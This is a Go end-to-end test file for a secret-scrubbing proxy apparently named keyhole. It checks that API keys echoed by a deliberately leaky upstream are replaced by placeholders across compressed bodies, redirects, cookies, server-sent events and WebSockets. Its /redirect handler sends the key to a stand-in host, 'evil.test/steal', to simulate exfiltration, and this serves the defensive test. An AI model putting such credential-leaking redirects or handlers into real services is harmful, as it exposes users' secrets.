package e2e

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"crypto/x509"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
	"github.com/coder/websocket"
	"github.com/klauspost/compress/zstd"
)

// echoUpstream answers every path with a body and headers that echo the
// request's Authorization value, in the shape the path asks for.
func scrubHandler(t *testing.T) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/enc/{enc}", func(w http.ResponseWriter, r *http.Request) {
		body := []byte(`{"error":"invalid api key: ` + strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ") + `"}`)
		var buf bytes.Buffer
		switch enc := r.PathValue("enc"); enc {
		case "gzip":
			zw := gzip.NewWriter(&buf)
			zw.Write(body)
			zw.Close()
		case "br":
			bw := brotli.NewWriter(&buf)
			bw.Write(body)
			bw.Close()
		case "zstd":
			zw, _ := zstd.NewWriter(&buf)
			zw.Write(body)
			zw.Close()
		case "x-unknown":
			buf.Write(body)
		}
		w.Header().Set("Content-Encoding", r.PathValue("enc"))
		w.Header().Set("Content-Type", "application/json")
		w.Write(buf.Bytes())
	})
	mux.HandleFunc("/redirect", func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		http.Redirect(w, r, "https://evil.test/steal?key="+url.QueryEscape(key), http.StatusFound)
	})
	mux.HandleFunc("/cookie", func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		http.SetCookie(w, &http.Cookie{Name: "session", Value: key})
		w.WriteHeader(http.StatusNoContent)
	})
	mux.HandleFunc("/sse", func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		w.Header().Set("Content-Type", "text/event-stream")
		f := w.(http.Flusher)
		half := len(key) / 2
		fmt.Fprintf(w, "data: first event at %d\n\n", time.Now().UnixMilli())
		fmt.Fprintf(w, "data: the key is %s", key[:half])
		f.Flush()
		time.Sleep(200 * time.Millisecond)
		fmt.Fprintf(w, "%s\n\n", key[half:])
		f.Flush()
		time.Sleep(200 * time.Millisecond)
		fmt.Fprintf(w, "data: last event at %d\n\n", time.Now().UnixMilli())
		f.Flush()
	})
	mux.HandleFunc("/ws", func(w http.ResponseWriter, r *http.Request) {
		key := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		if r.Header.Get("Sec-WebSocket-Extensions") != "" {
			http.Error(w, "extensions reached the upstream", http.StatusBadRequest)
			return
		}
		c, err := websocket.Accept(w, r, &websocket.AcceptOptions{CompressionMode: websocket.CompressionDisabled})
		if err != nil {
			return
		}
		defer c.CloseNow()
		ctx := r.Context()
		c.Write(ctx, websocket.MessageText, []byte("hello, your key is "+key))
		c.Write(ctx, websocket.MessageBinary, []byte("binary "+key))
		for {
			typ, msg, err := c.Read(ctx)
			if err != nil {
				return
			}
			c.Write(ctx, typ, append([]byte("echo: "), msg...))
		}
	})
	return mux
}

func newScrubWorld(t *testing.T) (*keyhole, *upstream) {
	t.Helper()
	up := newUpstream(t, []string{"api.stripe.test"}, scrubHandler(t))
	plain := newPlainUpstream(t, scrubHandler(t))
	k := startKeyhole(t, fmt.Sprintf(`
secrets:
  STRIPE:
    source: env:STRIPE_KEY
    hosts: [api.stripe.test, plain.test]
    allow_plaintext: true
resolve:
  api.stripe.test: %s
  plain.test: %s
`, up.Addr(), plain.Addr()))
	return k, up
}

func TestScrubsCompressedBodies(t *testing.T) {
	k, _ := newScrubWorld(t)
	for _, c := range clients(t) {
		for _, enc := range []string{"gzip", "br", "zstd"} {
			t.Run(c.Name()+"/"+enc, func(t *testing.T) {
				resp := c.Do(t, k, request{URL: "https://api.stripe.test/enc/" + enc,
					Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}, {"Accept-Encoding", "gzip, br, zstd"}}})
				if resp.Status != 200 {
					t.Fatalf("got %d %s%s", resp.Status, resp.Body, resp.Err)
				}
				if resp.Body != `{"error":"invalid api key: <<STRIPE>>"}` {
					t.Errorf("got body %q", resp.Body)
				}
				if ce := resp.Header.Get("Content-Encoding"); ce != "" {
					t.Errorf("Content-Encoding %q reached the agent for a body sent decoded", ce)
				}
			})
		}
		t.Run(c.Name()+"/unknown encoding with a secret", func(t *testing.T) {
			resp := c.Do(t, k, request{URL: "https://api.stripe.test/enc/x-unknown",
				Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
			assertRefusal(t, resp, 502, "unscrubbable_encoding", "")
		})
	}
	t.Run("unknown encoding without a secret is refused too", func(t *testing.T) {
		resp := goClient{}.Do(t, k, request{URL: "https://api.stripe.test/enc/x-unknown"})
		assertRefusal(t, resp, 502, "unscrubbable_encoding", "")
	})
}

func TestScrubsHeadersAndRedirects(t *testing.T) {
	k, up := newScrubWorld(t)
	for _, c := range clients(t) {
		t.Run(c.Name()+"/redirect", func(t *testing.T) {
			resp := c.Do(t, k, request{URL: "https://api.stripe.test/redirect", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
			if resp.Status != http.StatusFound {
				t.Fatalf("got %d, want the 302 passed through (keyhole never follows redirects)", resp.Status)
			}
			if loc := resp.Header.Get("Location"); !strings.Contains(loc, url.QueryEscape("<<STRIPE>>")) && !strings.Contains(loc, "<<STRIPE>>") {
				t.Errorf("Location %q does not carry the placeholder", loc)
			}
			assertNoSecretIn(t, "redirect", fmt.Sprint(resp.Header)+resp.Body)
		})
		t.Run(c.Name()+"/set-cookie", func(t *testing.T) {
			resp := c.Do(t, k, request{URL: "https://api.stripe.test/cookie", Header: [][2]string{{"Authorization", "Bearer <<STRIPE>>"}}})
			if resp.Status != http.StatusNoContent || !strings.Contains(resp.Header.Get("Set-Cookie"), "<<STRIPE>>") {
				t.Errorf("got %d, Set-Cookie %q", resp.Status, resp.Header.Get("Set-Cookie"))
			}
		})
	}
	if up.Hits() == 0 {
		t.Fatal("the upstream was never reached")
	}
}

// readEvents reads SSE events and when each arrived.
func readEvents(t *testing.T, body io.Reader) ([]string, []time.Time) {
	t.Helper()
	var events []string
	var times []time.Time
	sc := bufio.NewScanner(body)
	var cur strings.Builder
	for sc.Scan() {
		line := sc.Text()
		if line == "" {
			events = append(events, cur.String())
			times = append(times, time.Now())
			cur.Reset()
			continue
		}
		cur.WriteString(line)
	}
	return events, times
}

func TestSSEStreamsAndIsScrubbed(t *testing.T) {
	k, _ := newScrubWorld(t)
	for _, scheme := range []string{"https", "http"} {
		t.Run(scheme, func(t *testing.T) {
			host := "api.stripe.test"
			if scheme == "http" {
				host = "plain.test"
			}
			c := k.GoClient(t, "", "")
			req, _ := http.NewRequest("GET", scheme+"://"+host+"/sse", nil)
			req.Header.Set("Authorization", "Bearer <<STRIPE>>")
			start := time.Now()
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			defer resp.Body.Close()
			events, times := readEvents(t, resp.Body)
			if len(events) != 3 {
				t.Fatalf("got %d events, want 3: %q", len(events), events)
			}
			if events[1] != "data: the key is <<STRIPE>>" {
				t.Errorf("split secret: got %q", events[1])
			}
			// The first event must arrive before the upstream wrote the
			// second half of the secret, 200 ms later.
			if d := times[0].Sub(start); d > 150*time.Millisecond {
				t.Errorf("the first event arrived after %v: keyhole held it back", d)
			}
			assertNoSecretIn(t, "events", strings.Join(events, "\n"))
		})
	}
}

func TestWebSocketIsScrubbed(t *testing.T) {
	k, _ := newScrubWorld(t)
	pemBytes, _ := os.ReadFile(k.CAFile)
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pemBytes)
	proxyURL, _ := url.Parse(k.ProxyURL("", ""))
	hc := &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(proxyURL), TLSClientConfig: &tls.Config{RootCAs: pool}}}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	conn, _, err := websocket.Dial(ctx, "wss://api.stripe.test/ws", &websocket.DialOptions{
		HTTPClient:      hc,
		HTTPHeader:      http.Header{"Authorization": {"Bearer <<STRIPE>>"}},
		CompressionMode: websocket.CompressionContextTakeover,
	})
	if err != nil {
		t.Fatalf("dial through keyhole: %v", err)
	}
	defer conn.CloseNow()
	want := []string{"hello, your key is <<STRIPE>>", "binary <<STRIPE>>"}
	for _, w := range want {
		_, msg, err := conn.Read(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if string(msg) != w {
			t.Errorf("got %q, want %q", msg, w)
		}
	}
	conn.Write(ctx, websocket.MessageText, []byte("ping"))
	if _, msg, err := conn.Read(ctx); err != nil || string(msg) != "echo: ping" {
		t.Errorf("echo: got %q %v", msg, err)
	}
	conn.Close(websocket.StatusNormalClosure, "")
}
